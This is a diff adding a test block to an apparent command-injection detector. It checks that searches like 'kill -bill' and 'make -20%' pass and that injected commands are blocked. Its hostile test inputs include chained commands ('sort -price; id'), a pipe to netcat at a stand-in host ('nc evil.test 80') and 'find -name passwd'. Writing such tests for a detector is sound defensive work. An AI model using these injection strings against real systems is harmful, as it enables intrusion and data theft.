@@ -2124,3 +2124,20 @@ describe('cmdi session 25: a command only Unix has, written in Title-case, names
     'x|Make()(id);Make', 'x;Service()(touch /tmp/pwned);Service', 'x;Foo()(id);Foo'])('%s is a command', expectCmdi);
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['Sales & Service', 'x;touch /tmp/x', 'Blog | Touch base']); });
 });
+
+describe('cmdi session 26: an English command opening the value before a dash glued to an English word is a search', () => {
+  // "kill -bill", "top -rated", "sort -price": searches and titles (ordinary set, round 2) were blocked as a command with
+  // an option. The word after the dash is four or more lowercase letters with a vowel, naming no option a tool takes
+  // whole; a percentage after the dash (make -20%) is no option either
+  it.each(['kill -bill', 'top -rated', 'sort -price', 'ping -pong', 'watch -face', 'touch -screen', 'tail -light', 'open -source',
+    'date -night ideas', 'sleep -tracker', 'test -drive', 'make -20%', 'cut -10%', 'less -50% off', 'ping -pong 10.0.0.1'])('%s stays clean', (input) => {
+    for (const context of ['query', 'json'] as const) expect(d.scan(input, { context }).blocked, context).toBe(false);
+  });
+  // an option a tool takes (find's tests, PowerShell's parameters in any case), a cluster after a command that is no English
+  // word, capitals, an encoded letter, a short word, a number that is no percentage, and anything chained after it
+  it.each(['find -name passwd', 'find -delete', 'sleep -seconds 5', 'sleep -Seconds 5', 'kill -KILL 1', 'kill -Bill', 'ls -lart', 'netstat -tulpn',
+    'echo -dot', 'make -20', 'make -20 x', 'kill -9 1', 'sort -price; id', 'kill -bill | nc evil.test 80', 'x;kill -bill',
+    'kill --bill', 'sort -help'])('%s is a command', expectCmdi);
+  it('reads the word as written: an encoded letter is no search', () => { expect(d.scan('kill+-b%69ll', { context: 'query' }).blocked).toBe(true); });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['kill -bill', 'make -20%', 'make -20', 'sort -price; id', 'kill -KILL 1']); });
+});
